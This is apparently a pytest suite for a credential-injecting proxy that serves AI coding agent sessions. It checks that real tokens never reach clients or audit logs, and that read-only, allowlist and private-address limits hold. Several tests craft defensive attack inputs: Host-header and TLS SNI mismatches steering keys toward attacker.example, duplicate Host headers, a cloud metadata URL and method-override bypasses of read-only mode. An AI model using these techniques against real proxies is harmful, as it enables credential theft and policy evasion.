"""End to end through the real running proxy: curl and http.client to fake HTTPS upstreams on loopback,
reached through `settings.routes`. Real credential values are random strings, and no response a client
sees (nor the audit log) may contain one."""

from __future__ import annotations

import base64
import json
import time
from pathlib import Path

import pytest

from proxy import PLACEHOLDERS, CredentialStore, ProxyService, SessionProxyConfig, new_proxy_password, read_audit
from proxy.credentials import CODEX_OAUTH
from runtime.agents.registry import agent_named
from runtime.home import Home
from runtime.settings import Settings
from tests.test_proxy_fixtures import Curl, FakeUpstream, closed_port, make_ca, make_leaf, random_secret, tunnel

ROUTED = ("api.anthropic.com", "api.github.com", "github.com", "api.openai.com", "chatgpt.com", "eu.chatgpt.com",
          "api.pagerduty.com", "sentry.io", "registry.npmjs.org", "auth.docker.io", "auth.openai.com",
          "grafana.example.com", "attacker.example")

SECRETS = {
    "GITHUB_TOKEN": random_secret("ghp_"),
    "CLAUDE_CODE_OAUTH_TOKEN": random_secret("sk-ant-oat01-"),
    "ANTHROPIC_API_KEY": random_secret("sk-ant-api03-"),
    "OPENAI_API_KEY": random_secret("sk-"),
    "PAGERDUTY_TOKEN": random_secret(),
    "SENTRY_AUTH_TOKEN": random_secret(),
    "NPM_TOKEN": random_secret(),
    "DOCKER_TOKEN": random_secret(),
    "GRAFANA_API_KEY": random_secret(),
    "CODEX_ACCESS_TOKEN": random_secret("codex-access-"),
    "CODEX_REFRESH_TOKEN": random_secret("codex-refresh-"),
    "CODEX_ID_TOKEN": "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFAYi5jIn0." + random_secret(),
    "CODEX_ACCOUNT_ID": "acct-1234",
}
NEW_TOKENS = {"access_token": random_secret("new-access-"), "refresh_token": random_secret("new-refresh-"),
              "id_token": "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFAYi5jIn0." + random_secret()}
ALL_SECRET_VALUES = [v for k, v in SECRETS.items() if k != "CODEX_ACCOUNT_ID"] + list(NEW_TOKENS.values())


class World:
    """The running proxy, its upstreams, and a way to make sessions."""

    def __init__(self, tmp: Path, **proxy_settings) -> None:
        (tmp / "certs").mkdir()
        ca_path, ca_key, ca_cert = make_ca(tmp / "certs", "test-ca")
        _, bad_key, bad_cert = make_ca(tmp / "certs", "untrusted-ca")
        self.upstream = FakeUpstream(*make_leaf(tmp / "certs", ca_key, ca_cert, "good", ("pinned.example",)))
        self.bad_upstream = FakeUpstream(*make_leaf(tmp / "certs", bad_key, bad_cert, "bad"))
        up, bad = self.upstream.start(), self.bad_upstream.start()
        self.up_port = up
        routes = {h: f"https://127.0.0.1:{up}" for h in ROUTED}
        routes["refused.example"] = f"https://127.0.0.1:{closed_port()}"
        routes["badtls.example"] = f"https://127.0.0.1:{bad}"
        self.settings = Settings.model_validate({
            "routes": routes,
            "proxy": {"upstream_ca_bundle": str(ca_path), "grafana_host": "grafana.example.com", **proxy_settings},
        })
        self.home = Home.open(tmp / "h")
        self.store = CredentialStore(secrets_dir=self.home.secrets, environ=dict(SECRETS),
                                     tokens_file=self.home.root / "codex-tokens.json")
        self.service = ProxyService(self.home, self.settings, port=closed_port(), credential_sources=self.store)
        self.port = self.service.start()
        self.ca = self.service.ca_cert_path
        self.hook_calls: list[tuple] = []

    def session(self, sid: str, agent: str = "claude", creds: set[str] = frozenset(), **kw) -> CheckedCurl:
        password, digest = new_proxy_password()
        self.service.register_session(SessionProxyConfig(sid, f"name-{sid}", digest, agent, set(creds),
                                                         traffic=agent_named(agent).traffic, **kw))
        return CheckedCurl(self.port, self.ca, sid, password)

    def close(self) -> None:
        self.service.stop()
        self.upstream.stop()
        self.bad_upstream.stop()


class CheckedCurl(Curl):
    """curl that also asserts no real credential value reaches the client."""

    def __call__(self, url, *args, **kw):
        status, headers, body = super().__call__(url, *args, **kw)
        text = json.dumps(headers) + body
        for value in ALL_SECRET_VALUES:
            assert value not in text
        return status, headers, body


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    w = World(tmp_path_factory.mktemp("proxy"))
    yield w
    w.close()


def wait_audit(world: World, sid: str, pred) -> list[dict]:
    """Audit records of `sid` matching `pred`; a streamed response's line is written just after the client
    has its last byte, so wait (bounded) for it rather than race it."""
    deadline = time.monotonic() + 10
    while True:
        recs = [r for r in read_audit(world.home, sid) if pred(r)]
        if recs or time.monotonic() > deadline:
            return recs
        time.sleep(0.02)


def last_seen(world: World, path: str):
    matches = [s for s in world.upstream.seen if s.path == path]
    assert matches, f"upstream never saw {path}"
    return matches[-1]


def test_missing_or_wrong_proxy_credentials_get_407(world):
    curl = world.session("s-auth", creds={"github_token"})
    status, headers, _ = curl("https://api.github.com/no-auth", proxy_auth=False)
    assert status == 407 and headers["proxy-authenticate"].startswith("Basic")
    status, headers, _ = curl("http://api.github.com/plain-no-auth", proxy_auth=False)
    assert status == 407 and "proxy-authenticate" in headers
    wrong = Curl(world.port, world.ca, "s-auth", "not-the-password")
    assert wrong("https://api.github.com/wrong-pass")[0] == 407
    assert not [s for s in world.upstream.seen if s.path in ("/no-auth", "/plain-no-auth", "/wrong-pass")]
    assert curl("https://api.github.com/right-pass")[0] == 200
    world.service.unregister_session("s-auth")
    assert curl("https://api.github.com/after-unregister")[0] == 407


@pytest.mark.parametrize("creds,header,expected,absent", [
    ({"anthropic_oauth_token"}, "authorization", f"Bearer {SECRETS['CLAUDE_CODE_OAUTH_TOKEN']}", "x-api-key"),
    ({"anthropic_api_key"}, "x-api-key", SECRETS["ANTHROPIC_API_KEY"], "authorization"),
])
def test_anthropic_oauth_or_api_key(world, creds, header, expected, absent):
    curl = world.session(f"s-anth-{header}", creds=creds)
    status, _, _ = curl(f"https://api.anthropic.com/v1/messages?{header}", "-X", "POST", "-d", "{}",
                        "-H", f"x-api-key: {PLACEHOLDERS['anthropic_api_key']}",
                        "-H", f"Authorization: Bearer {PLACEHOLDERS['anthropic_oauth_token']}")
    assert status == 200
    seen = last_seen(world, f"/v1/messages?{header}")
    assert seen.headers[header] == expected
    assert absent not in seen.headers
    assert "proxy-authorization" not in seen.headers


@pytest.mark.parametrize("host,creds,header,expected", [
    ("api.github.com", {"github_token"}, "authorization", f"Bearer {SECRETS['GITHUB_TOKEN']}"),
    ("github.com", {"github_token"}, "authorization",
     "Basic " + base64.b64encode(f"x-access-token:{SECRETS['GITHUB_TOKEN']}".encode()).decode()),
    ("api.openai.com", {"openai_api_key"}, "authorization", f"Bearer {SECRETS['OPENAI_API_KEY']}"),
    ("api.openai.com", {CODEX_OAUTH}, "authorization", f"Bearer {SECRETS['CODEX_ACCESS_TOKEN']}"),
    ("eu.chatgpt.com", {CODEX_OAUTH}, "chatgpt-account-id", "acct-1234"),
    ("api.pagerduty.com", {"pagerduty_token"}, "authorization", f"Token token={SECRETS['PAGERDUTY_TOKEN']}"),
    ("sentry.io", {"sentry_auth_token"}, "authorization", f"Bearer {SECRETS['SENTRY_AUTH_TOKEN']}"),
    ("registry.npmjs.org", {"npm_token"}, "authorization", f"Bearer {SECRETS['NPM_TOKEN']}"),
    ("auth.docker.io", {"docker_token"}, "authorization", f"Bearer {SECRETS['DOCKER_TOKEN']}"),
    ("grafana.example.com", {"grafana_api_key"}, "authorization", f"Bearer {SECRETS['GRAFANA_API_KEY']}"),
])
def test_injection_per_host(world, host, creds, header, expected):
    sid = f"s-inj-{host}-{sorted(creds)[0]}"
    curl = world.session(sid, agent="codex", creds=creds)
    path = f"/inject/{sid}"
    assert curl(f"https://{host}{path}", "-H", "Authorization: Bearer placeholder")[0] == 200
    assert last_seen(world, path).headers[header] == expected


def test_openai_api_key_sends_no_account_id(world):
    curl = world.session("s-openai-key", agent="codex", creds={"openai_api_key"})
    curl("https://api.openai.com/v1/models/key", "-H", "ChatGPT-Account-ID: x")
    assert "chatgpt-account-id" not in last_seen(world, "/v1/models/key").headers


def test_credential_outside_the_session_set_is_not_injected(world):
    curl = world.session("s-noset", creds={"github_token"})
    curl("https://sentry.io/not-in-set", "-H", "Authorization: Bearer placeholder")
    assert last_seen(world, "/not-in-set").headers["authorization"] == "Bearer placeholder"


def test_read_only_refuses_writes_but_not_model_calls_and_switches_live(world):
    curl = world.session("s-ro", creds={"github_token", "anthropic_api_key"}, access_mode="read-only")
    status, _, body = curl("https://api.github.com/repos/x/issues", "-X", "POST", "-d", "{}")
    assert status == 403 and "read-only" in body
    assert curl("https://api.github.com/repos/x/ro-get")[0] == 200
    assert curl("https://api.anthropic.com/v1/messages/ro", "-X", "POST", "-d", "{}")[0] == 200
    assert curl("https://github.com/x/y.git/git-upload-pack", "-X", "POST", "-d", "0000")[0] == 200
    assert curl("https://github.com/x/y.git/git-receive-pack", "-X", "POST", "-d", "0000")[0] == 403
    world.service.set_access_mode("s-ro", "read-write")
    assert curl("https://api.github.com/repos/x/issues2", "-X", "POST", "-d", "{}")[0] == 200
    assert not [s for s in world.upstream.seen if s.path in ("/repos/x/issues", "/x/y.git/git-receive-pack")]
    blocked = [r for r in read_audit(world.home, "s-ro") if r["blocked"] == "read_only"]
    assert {r["path"] for r in blocked} == {"/repos/x/issues", "/x/y.git/git-receive-pack"}


def test_allowlist_egress(world):
    curl = world.session("s-allow", creds={"github_token", "anthropic_api_key"}, egress="allowlist",
                         allowlist=["api.github.com", "*.chatgpt.com"])
    status, _, body = curl("https://sentry.io/egress-refused")
    assert status == 403  # at CONNECT: the tunnel itself is refused, so no byte reaches the host
    status, _, body = curl("http://sentry.io/egress-refused-plain")
    assert status == 403 and "allowlist" in body
    assert curl("https://api.github.com/egress-ok")[0] == 200
    assert curl("https://eu.chatgpt.com/egress-wildcard")[0] == 200
    assert curl("https://api.anthropic.com/v1/messages/egress-model", "-X", "POST", "-d", "{}")[0] == 200
    assert not [s for s in world.upstream.seen if s.path.startswith("/egress-refused")]
    refused = [r for r in read_audit(world.home, "s-allow") if r["blocked"] == "egress"]
    assert [r["method"] for r in refused] == ["CONNECT", "GET"]


def test_tripwire_refuses_real_credentials_in_headers_or_body(world):
    curl = world.session("s-trip", creds={"github_token"})
    status, _, _ = curl("https://api.github.com/trip-header", "-H", f"X-Leak: {SECRETS['ANTHROPIC_API_KEY']}")
    assert status == 403
    status, _, _ = curl("https://api.github.com/trip-body", "-X", "POST", "-H", "Content-Type: application/json",
                        "-d", json.dumps({"token": SECRETS["GITHUB_TOKEN"]}))
    assert status == 403
    assert not [s for s in world.upstream.seen if s.path.startswith("/trip-")]
    lines = [r for r in read_audit(world.home, "s-trip") if r["blocked"] == "tripwire"]
    assert len(lines) == 2


@pytest.mark.parametrize("url", ["http://127.0.0.1:{up}/direct", "https://127.0.0.1:{up}/direct-tls",
                                 "http://169.254.169.254/latest/meta-data/", "http://10.1.2.3/x",
                                 "http://[::1]:{up}/v6", "http://localhost:{up}/name"])
def test_non_public_targets_refused_unless_routed(world, url):
    curl = world.session("s-private", creds=set())
    status, _, body = curl(url.format(up=world.up_port))
    assert status == 403 and ("non-public" in body or "loopback" in body)
    assert not [s for s in world.upstream.seen if s.path in ("/direct", "/direct-tls", "/v6", "/name")]


def test_connection_goes_to_the_checked_address(world, monkeypatch):
    """`pinned.example` resolves nowhere in real DNS; only our (stand-in) checked lookup knows it. If the
    proxy looked the name up again to connect, the request would fail: it must dial the checked address."""
    checked = []

    async def stand_in(host, port):
        checked.append(host)
        if host == "pinned.example":
            return "127.0.0.1"  # stands for a public address the real check accepted
        raise AssertionError(host)

    monkeypatch.setattr(world.service._router, "resolve", stand_in)
    curl = world.session("s-pin", creds=set())
    status, _, _ = curl(f"https://pinned.example:{world.up_port}/pinned")
    assert status == 200 and checked == ["pinned.example"]
    seen = last_seen(world, "/pinned")
    assert seen.host == f"pinned.example:{world.up_port}"


@pytest.mark.parametrize("url,error_type", [
    ("https://refused.example/x", "CONNECTION_REFUSED"),
    ("https://nosuch-host.invalid/x", "DNS_RESOLUTION_FAILURE"),
    ("http://nosuch-host.invalid/x", "DNS_RESOLUTION_FAILURE"),
    ("https://badtls.example/x", "TLS_CERTIFICATE_ERROR"),
])
def test_upstream_failures_are_typed_502s(world, url, error_type):
    curl = world.session("s-502", creds=set())
    status, headers, _ = curl(url)
    assert status == 502
    assert headers["x-proxy-error-type"] == error_type
    assert wait_audit(world, "s-502", lambda r: r["path"] == "/x" and r["error_type"] == error_type)
    assert not world.bad_upstream.seen


def test_sse_is_streamed_event_by_event(world):
    """Causal, not timed: the upstream sends its second event only after the client has read the first."""
    curl = world.session("s-sse", creds={"anthropic_api_key"})
    world.upstream.sse_release.clear()
    conn = tunnel(world.port, world.ca, "api.anthropic.com", "s-sse", curl.password)
    conn.request("POST", "/sse", body=b"{}", headers={"x-api-key": PLACEHOLDERS["anthropic_api_key"]})
    resp = conn.getresponse()
    assert resp.status == 200
    first = b""
    while b"\n\n" not in first:
        first += resp.read1(4096)
    assert b"data: first" in first and b"second" not in first
    world.upstream.sse_release.set()
    rest = resp.read()
    conn.close()
    assert b"data: second" in rest
    assert world.upstream.sse_released_by_client[-1] is True


def test_codex_token_refresh_swapped_both_ways(world):
    world.upstream.token_reply = dict(NEW_TOKENS, token_type="Bearer", expires_in=3600)
    curl = world.session("s-codex", agent="codex", creds={CODEX_OAUTH})
    body = json.dumps({"grant_type": "refresh_token", "refresh_token": PLACEHOLDERS["codex_refresh_token"],
                       "client_id": "app"})
    status, _, out = curl("https://auth.openai.com/oauth/token", "-X", "POST",
                          "-H", "Content-Type: application/json", "-d", body)
    assert status == 200
    seen = last_seen(world, "/oauth/token")
    assert json.loads(seen.body)["refresh_token"] == SECRETS["CODEX_REFRESH_TOKEN"]
    reply = json.loads(out)
    assert reply["access_token"] == PLACEHOLDERS["codex_access_token"]
    assert reply["refresh_token"] == PLACEHOLDERS["codex_refresh_token"]
    assert reply["id_token"].endswith(".clauderon-placeholder")
    assert world.store.codex.access_token == NEW_TOKENS["access_token"]
    kept = json.loads((world.home.root / "codex-tokens.json").read_text())["tokens"]
    assert kept["refresh_token"] == NEW_TOKENS["refresh_token"]
    # The next API call carries the refreshed token, and the old one is no longer accepted as "real" only.
    curl("https://api.openai.com/v1/responses/after-refresh", "-X", "POST", "-d", "{}")
    assert last_seen(world, "/v1/responses/after-refresh").headers["authorization"] == \
        f"Bearer {NEW_TOKENS['access_token']}"


def test_a_token_refresh_belongs_to_the_credential_not_the_agent(world):
    """A shell session holding `codex_oauth` (a user refreshing by hand) gets the same swap as Codex: the
    refresh endpoint is the credential's, not in any agent's tables."""
    world.upstream.token_reply = dict(NEW_TOKENS, token_type="Bearer", expires_in=3600)
    real_refresh = world.store.codex.refresh_token
    curl = world.session("s-shell-refresh", agent="shell", creds={CODEX_OAUTH})
    body = json.dumps({"grant_type": "refresh_token", "refresh_token": PLACEHOLDERS["codex_refresh_token"]})
    status, _, out = curl("https://auth.openai.com/oauth/token", "-X", "POST",
                          "-H", "Content-Type: application/json", "-d", body)
    assert status == 200
    assert json.loads(last_seen(world, "/oauth/token").body)["refresh_token"] == real_refresh
    assert json.loads(out)["refresh_token"] == PLACEHOLDERS["codex_refresh_token"]


def test_hooks_host_answered_by_the_engine_handler(world):
    curl = world.session("s-hook", creds=set())
    assert curl("https://clauderon.internal/hooks/stop")[0] == 404
    calls = []

    def handler(session_id, method, path, body):
        calls.append((session_id, method, path, body))
        return 200, {"Content-Type": "application/json"}, b'{"handled": true}'

    world.service.set_hooks_handler(handler)
    try:
        status, _, body = curl("https://clauderon.internal/hooks/stop", "-X", "POST", "-d", "payload")
        status2, _, _ = curl("http://clauderon.internal/plain")
    finally:
        world.service.set_hooks_handler(None)
    assert status == 200 and json.loads(body) == {"handled": True}
    assert status2 == 200
    assert calls[0] == ("s-hook", "POST", "/hooks/stop", b"payload")
    assert calls[1][:3] == ("s-hook", "GET", "/plain")


def test_audit_lines_name_credentials_never_values(world):
    curl = world.session("s-audit", creds={"github_token"})
    curl("https://api.github.com/audited?q=1", "-X", "POST", "-d", "{}")
    recs = wait_audit(world, "s-audit", lambda r: True)
    assert len(recs) == 1
    rec = recs[0]
    assert {k: rec[k] for k in ("session", "host", "method", "path", "credential", "status", "blocked")} == {
        "session": "s-audit", "host": "api.github.com", "method": "POST", "path": "/audited",
        "credential": "github_token", "status": 200, "blocked": None}
    assert rec["duration_ms"] >= 0 and rec["ts"] > 0
    raw = (world.home.root / "audit.jsonl").read_text()
    for value in ALL_SECRET_VALUES:
        assert value not in raw


def _forwarded(world: World, prefix: str) -> list:
    return [s for s in world.upstream.seen if s.path.startswith(prefix)]


@pytest.mark.parametrize("url,host_header", [
    ("http://attacker.example/mis-plain", "api.anthropic.com"),        # plain HTTP, absolute URL
    ("https://attacker.example/mis-tls", "api.anthropic.com"),         # inside the CONNECT tunnel
    ("http://attacker.example/mis-port", "api.anthropic.com:80"),
    ("https://attacker.example/mis-github", "api.github.com"),
    ("https://api.anthropic.com/mis-reverse", "attacker.example"),     # the other way round
])
def test_a_host_header_naming_another_host_is_421_and_nothing_is_forwarded(world, url, host_header):
    """The attack that leaked the real key: the URL (what the proxy connects to) says one host, the Host
    header (what routing, policy and injection used to read) another."""
    # Open egress: an allowlist session is refused a tunnel to an unlisted host at CONNECT already.
    curl = world.session("s-mis", creds={"anthropic_api_key", "github_token"})
    status, _, body = curl(url, "-H", f"Host: {host_header}", "-H", "x-api-key: placeholder")
    assert status == 421, body
    assert "misdirected" in body
    assert not _forwarded(world, "/mis-")
    path = "/" + url.split("/", 3)[3]
    assert wait_audit(world, "s-mis", lambda r: r["path"] == path and r["blocked"] == "misdirected"
                      and r["status"] == 421 and r["credential"] is None)


@pytest.mark.parametrize("host_header", ["API.GitHub.com", "api.github.com.", "api.github.com:443",
                                         "xn--api-github-com-x.invalid"])
def test_the_same_host_in_another_spelling_is_accepted_or_refused_by_its_canonical_form(world, host_header):
    curl = world.session("s-spell", creds={"github_token"})
    status, _, _ = curl("https://api.github.com/spelling", "-H", f"Host: {host_header}")
    assert status == (421 if host_header.startswith("xn--") else 200)


def test_two_host_headers_are_refused(world):
    import base64 as b64
    import socket

    password, digest = new_proxy_password()
    world.service.register_session(SessionProxyConfig("s-two", "name-s-two", digest, "claude", set(),
                                                          traffic=agent_named("claude").traffic))
    auth = b64.b64encode(f"s-two:{password}".encode()).decode()
    with socket.create_connection(("127.0.0.1", world.port), timeout=30) as sock:
        sock.sendall(f"GET http://api.github.com/two-hosts HTTP/1.1\r\nHost: api.github.com\r\n"
                     f"Host: evil.example\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n\r\n"
                     .encode())
        reply = sock.recv(65536)
    assert reply.split(b" ", 2)[1] in (b"400", b"421"), reply[:200]
    assert not _forwarded(world, "/two-hosts")


def test_a_tls_sni_naming_another_host_than_the_tunnel_is_421(world):
    """CONNECT to attacker.example, then TLS with SNI and Host api.anthropic.com: the key must not follow."""
    import base64 as b64
    import socket
    import ssl

    password, digest = new_proxy_password()
    world.service.register_session(SessionProxyConfig("s-sni", "name-s-sni", digest, "claude", {"anthropic_api_key"},
                                                          traffic=agent_named("claude").traffic))
    raw = socket.create_connection(("127.0.0.1", world.port), timeout=30)
    auth = b64.b64encode(f"s-sni:{password}".encode()).decode()
    raw.sendall(f"CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n"
                f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
    assert raw.recv(4096).startswith(b"HTTP/1.1 200")
    tls = ssl.create_default_context(cafile=str(world.ca)).wrap_socket(raw, server_hostname="api.anthropic.com")
    tls.sendall(b"GET /mis-sni HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: placeholder\r\n"
                b"Connection: close\r\n\r\n")
    reply = b""
    while chunk := tls.recv(65536):
        reply += chunk
    tls.close()
    assert reply.startswith(b"HTTP/1.1 421"), reply[:200]
    assert not _forwarded(world, "/mis-sni")


@pytest.mark.parametrize("args", [
    ("-H", "X-HTTP-Method-Override: DELETE"),
    ("-H", "X-HTTP-Method: PUT"),
    ("-H", "X-Method-Override: PATCH"),
    ("-X", "GET", "-d", '{"title": "written by a GET"}'),
    ("-H", "Connection: Upgrade", "-H", "Upgrade: websocket", "-H", "Sec-WebSocket-Version: 13",
     "-H", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
], ids=["x-http-method-override", "x-http-method", "x-method-override", "get-with-body", "websocket"])
def test_read_only_cannot_be_bypassed_by_a_disguised_write(world, args):
    curl = world.session("s-ro-bypass", creds={"github_token"}, access_mode="read-only")
    status, _, body = curl("https://api.github.com/repos/x/ro-bypass", *args)
    assert status == 403 and "read-only" in body
    assert not _forwarded(world, "/repos/x/ro-bypass")
